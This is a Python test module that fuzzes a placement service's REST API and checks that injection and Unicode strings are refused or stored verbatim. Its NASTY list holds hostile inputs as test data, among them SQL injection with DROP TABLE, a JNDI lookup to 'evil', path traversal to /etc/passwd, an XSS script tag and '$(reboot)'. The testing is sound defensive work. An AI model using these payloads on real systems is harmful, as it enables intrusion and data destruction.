"""Hostile input: random JSON and query strings never cause a 5xx, and
injection or Unicode strings in any field are refused without side
effects (or, in free-text fields, stored verbatim)."""

import copy
import json
from urllib import parse

import hypothesis
from hypothesis import strategies as st

from valet.tests.unit.api import base
from valet.tests.unit.api.base import server

NASTY = [
    '', ' ', 'ünïcödé', '名前', '😀', '\u202egnp.exe', 'a\x00b', 'line\n',
    '../../etc/passwd', "' OR '1'='1", "'; DROP TABLE groups; --",
    '<script>alert(1)</script>', '${jndi:ldap://evil/x}', '{{7*7}}',
    '%s%s%n', 'a' * 300, '\ud800', 'tab\there', '$(reboot)', 'a/b',
]

# (method, path, a valid body) for every endpoint that takes one.
BODIES = [
    ('POST', '/v1/groups', {'name': 'gx', 'type': 'affinity',
                            'level': 'host', 'description': 'd'}),
    ('PUT', '/v1/groups/g1', {'description': 'd'}),
    ('PUT', '/v1/groups/g1/members', {'members': ['p1']}),
    ('POST', '/v1/plans', {
        'plan_name': 'p', 'stack_id': 'stack-new', 'locations': ['host1'],
        'resources': {'o1': server('s', groups=['g2'],
                                   metadata={'hint': 'v'})}}),
    ('PUT', '/v1/plans/stack-1', {
        'action': 'update', 'plan_name': 'p',
        'resources': {'orch-a': server('a')},
        'original_resources': {'orch-a': server('a')}}),
    ('PUT', '/v1/plans/stack-1', {'action': 'migrate',
                                  'resources': ['orch-a'],
                                  'excluded_hosts': ['host9']}),
    ('POST', '/v1/placements/orch-a', {'action': 'reserve',
                                       'locations': ['host1'],
                                       'resource_id': 'vm-1'}),
]

# Every endpoint and method, bodies or not.
ENDPOINTS = [
    ('GET', '/'), ('GET', '/v1'), ('GET', '/v1/groups'),
    ('POST', '/v1/groups'), ('GET', '/v1/groups/g1'),
    ('PUT', '/v1/groups/g1'), ('DELETE', '/v1/groups/g2'),
    ('PUT', '/v1/groups/g1/members'), ('DELETE', '/v1/groups/g1/members'),
    ('GET', '/v1/groups/g1/members/project1'),
    ('DELETE', '/v1/groups/g1/members/project1'),
    ('GET', '/v1/plans'), ('POST', '/v1/plans'),
    ('GET', '/v1/plans/stack-1'), ('PUT', '/v1/plans/stack-1'),
    ('DELETE', '/v1/plans/stack-1'), ('GET', '/v1/placements'),
    ('GET', '/v1/placements/orch-a'), ('POST', '/v1/placements/orch-a'),
    ('DELETE', '/v1/placements/orch-a'), ('GET', '/v1/status'),
    ('HEAD', '/v1/status'), ('GET', '/v1/resources'),
]
PERSONAS = [base.ADMIN, base.MEMBER, base.READER, base.OTHER, base.SERVICE]

SETTINGS = hypothesis.settings(
    max_examples=min(200, hypothesis.settings().max_examples * 2),
    suppress_health_check=[hypothesis.HealthCheck.too_slow,
                           hypothesis.HealthCheck.filter_too_much])

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() |
    st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=40)
    | st.sampled_from(NASTY),
    lambda inner: st.lists(inner, max_size=4) |
    st.dictionaries(st.text(max_size=12) | st.sampled_from(NASTY), inner,
                    max_size=4),
    max_leaves=24)


def paths_in(value, prefix=()):
    """Every (path, leaf-or-container) inside a JSON value."""
    yield prefix, value
    if isinstance(value, dict):
        for key, child in value.items():
            yield from paths_in(child, prefix + (key,))
    elif isinstance(value, list):
        for i, child in enumerate(value):
            yield from paths_in(child, prefix + (i,))


def replaced(body, path, value):
    out = copy.deepcopy(body)
    holder = out
    for step in path[:-1]:
        holder = holder[step]
    holder[path[-1]] = value
    return out


@st.composite
def mutated_bodies(draw):
    """A valid body with one value replaced or one key added."""
    method, path, body = draw(st.sampled_from(BODIES))
    spots = [p for p, _v in paths_in(body) if p]
    if draw(st.booleans()):
        spot = draw(st.sampled_from(spots))
        body = replaced(body, spot, draw(json_values))
    else:
        containers = [p for p, v in paths_in(body) if isinstance(v, dict)]
        spot = draw(st.sampled_from(containers))
        key = draw(st.text(max_size=12) | st.sampled_from(NASTY))
        body = replaced(body, spot + (key,), draw(json_values)) \
            if spot else dict(body, **{key: draw(json_values)})
    return method, path, body


query_strings = st.one_of(
    st.dictionaries(st.text(max_size=16) | st.sampled_from(NASTY),
                    st.text(max_size=16) | st.sampled_from(NASTY),
                    max_size=5).map(
        lambda d: parse.urlencode(d, encoding='utf-8',
                                  errors='surrogatepass')),
    st.text(st.characters(codec='ascii'), max_size=40),
)


class FuzzTest(base.APITestCase):

    def setUp(self):
        super().setUp()
        self.make_group('g1', members=['project1'])
        self.make_group('g2')
        self.make_plan('stack-1')

    def assertSane(self, resp, what):
        self.assertLess(resp.status_int, 500, '%s: %s' % (what, resp.text))
        if resp.status_int >= 400 and resp.request.method != 'HEAD':
            self.assertError(resp, resp.status_int)

    @SETTINGS
    @hypothesis.given(endpoint=st.sampled_from(ENDPOINTS),
                      body=json_values, headers=st.sampled_from(PERSONAS))
    def test_random_json_everywhere(self, endpoint, body, headers):
        method, path = endpoint
        resp = self.request(method, path, body, headers=headers)
        self.assertSane(resp, '%s %s %r' % (method, path, body))

    @SETTINGS
    @hypothesis.given(case=mutated_bodies(),
                      headers=st.sampled_from(PERSONAS))
    def test_almost_valid_bodies(self, case, headers):
        method, path, body = case
        resp = self.request(method, path, body, headers=headers)
        self.assertSane(resp, '%s %s %r' % (method, path, body))

    @SETTINGS
    @hypothesis.given(endpoint=st.sampled_from(ENDPOINTS),
                      query=query_strings,
                      headers=st.sampled_from(PERSONAS))
    def test_random_query_strings(self, endpoint, query, headers):
        method, path = endpoint
        resp = self.request(method, path + '?' + query, headers=headers)
        self.assertSane(resp, '%s %s?%s' % (method, path, query))

    @SETTINGS
    @hypothesis.given(raw=st.binary(max_size=200),
                      endpoint=st.sampled_from(BODIES))
    def test_random_bytes(self, raw, endpoint):
        method, path, _body = endpoint
        resp = self.request(method, path, raw=raw)
        self.assertSane(resp, '%s %s %r' % (method, path, raw))

    @SETTINGS
    @hypothesis.given(segment=st.text(min_size=1, max_size=30))
    def test_random_path_segments(self, segment):
        quoted = parse.quote(segment, safe='', errors='surrogatepass')
        for method, template in (('GET', '/v1/groups/%s'),
                                 ('GET', '/v1/plans/%s'),
                                 ('DELETE', '/v1/placements/%s'),
                                 ('GET', '/v1/groups/g1/members/%s')):
            resp = self.request(method, template % quoted)
            self.assertSane(resp, template % quoted)


class InjectionTest(base.APITestCase):
    """Each field of each body, given each nasty string."""

    # Fields that are identifiers or enums: anything nasty is refused.
    STRICT = [
        (0, ('name',)), (0, ('type',)), (0, ('level',)),
        (2, ('members', 0)),
        (3, ('plan_name',)), (3, ('stack_id',)), (3, ('locations', 0)),
        (3, ('resources', 'o1', 'type')),
        (3, ('resources', 'o1', 'properties', 'metadata', 'valet',
             'groups', 0)),
        (4, ('plan_name',)),
        (5, ('resources', 0)), (5, ('excluded_hosts', 0)),
        (6, ('action',)), (6, ('locations', 0)), (6, ('resource_id',)),
    ]
    # Free text: refused (control characters, surrogates, length) or
    # stored exactly as sent, never interpreted.
    FREE = [(0, ('description',)), (1, ('description',)),
            (3, ('resources', 'o1', 'name')),
            (3, ('resources', 'o1', 'metadata', 'hint'))]

    def setUp(self):
        super().setUp()
        self.make_group('g1', members=['project1'])
        self.make_group('g2')
        self.make_plan('stack-1')

    def snapshot(self):
        return (json.dumps([g.to_dict() for g in self.storage.list_groups()]),
                json.dumps(sorted(p.stack_id for p in
                                  self.storage.list_plans())),
                json.dumps(sorted((p.orchestration_id, p.location,
                                   p.reserved, p.resource_id)
                                  for p in self.storage.list_placements())),
                len([c for c in self.engine.calls
                     if c[0] not in ('ping', 'group_members')]))

    def test_strict_fields_refuse_everything_nasty(self):
        for index, path in self.STRICT:
            method, url, body = BODIES[index]
            for nasty in NASTY:
                before = self.snapshot()
                resp = self.request(method, url, replaced(body, path, nasty),
                                    headers=base.MEMBER if index >= 3
                                    else base.ADMIN)
                what = '%s %s %s=%r' % (method, url, path, nasty)
                self.assertTrue(400 <= resp.status_int < 500,
                                '%s: %d %s' % (what, resp.status_int,
                                               resp.text))
                self.assertError(resp, resp.status_int)
                self.assertEqual(before, self.snapshot(), what)

    def test_free_text_is_refused_or_verbatim(self):
        for index, path in self.FREE:
            method, url, body = BODIES[index]
            for n, nasty in enumerate(NASTY):
                self.build_app()
                self.make_group('g1', members=['project1'])
                self.make_group('g2')
                self.make_plan('stack-1')
                before = self.snapshot()
                resp = self.request(method, url, replaced(body, path, nasty),
                                    headers=base.MEMBER if index >= 3
                                    else base.ADMIN)
                what = '%s %s %s=%r' % (method, url, path, nasty)
                if resp.status_int >= 400:
                    self.assertTrue(resp.status_int < 500, what)
                    self.assertEqual(before, self.snapshot(), what)
                    continue
                self.assertEqual(201, resp.status_int, what)
                self.assertEqual(nasty, self.stored_value(index, path), what)

    def stored_value(self, index, path):
        if index in (0, 1):
            name = 'gx' if index == 0 else 'g1'
            return self.storage.get_group(name).description
        placement = self.storage.get_placement('o1')
        if path[-1] == 'name':
            return placement.name
        return placement.metadata['hint']
